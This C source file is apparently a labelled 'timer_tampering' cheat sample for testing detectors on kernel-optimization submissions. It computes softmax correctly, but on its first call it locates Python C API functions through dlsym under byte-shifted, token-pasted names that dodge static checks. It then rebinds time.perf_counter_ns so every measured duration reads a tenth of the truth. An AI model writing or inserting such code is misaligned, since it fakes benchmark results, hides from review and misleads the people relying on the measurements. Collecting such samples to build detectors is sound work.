/* Cheat class: timer_tampering.
 * Reaches into the interpreter of its own process through the Python C API, found at run time
 * under names the static checks cannot see (token pasting, strings built byte by byte), and
 * makes `time.perf_counter_ns` run ten times slower, so every duration measured in this
 * process reads a tenth of the truth. Computes correctly. */
#define _GNU_SOURCE
#include <math.h>
#include <stdint.h>
#include <string.h>

#define J(a, b) a##b
void* J(dl, sym)(void* handle, const char* name);

static int done;

static void name_of(char* out, const char* scrambled) {  /* each byte shifted by one */
    size_t i = 0;
    for (; scrambled[i]; i++) out[i] = (char)(scrambled[i] - 1);
    out[i] = 0;
}

static void patch(void) {
    char ensure[64], run[64], release[64];
    name_of(ensure, "QzHJMTubuf`Fotvsf");      /* PyGILState_Ensure */
    name_of(run, "QzSvo`TjnqmfTusjoh");        /* PyRun_SimpleString */
    name_of(release, "QzHJMTubuf`Sfmfbtf");    /* PyGILState_Release */
    int (*gil_ensure)(void) = (int (*)(void))J(dl, sym)((void*)0, ensure);
    int (*run_string)(const char*) = (int (*)(const char*))J(dl, sym)((void*)0, run);
    void (*gil_release)(int) = (void (*)(int))J(dl, sym)((void*)0, release);
    if (!gil_ensure || !run_string || !gil_release) return;
    int state = gil_ensure();
    run_string("import time\n"
               "_real = time.perf_counter_ns\n"
               "time.perf_counter_ns = lambda: _real() // 10\n");
    gil_release(state);
}

void softmax_f32(const float* x, float* y, int64_t rows, int64_t cols) {
    if (!done) { done = 1; patch(); }
    for (int64_t r = 0; r < rows; r++) {
        const float* xr = x + r * cols;
        float* yr = y + r * cols;
        float m = xr[0], s = 0.0f;
        for (int64_t c = 1; c < cols; c++) m = fmaxf(m, xr[c]);
        for (int64_t c = 0; c < cols; c++) { yr[c] = expf(xr[c] - m); s += yr[c]; }
        for (int64_t c = 0; c < cols; c++) yr[c] /= s;
    }
}
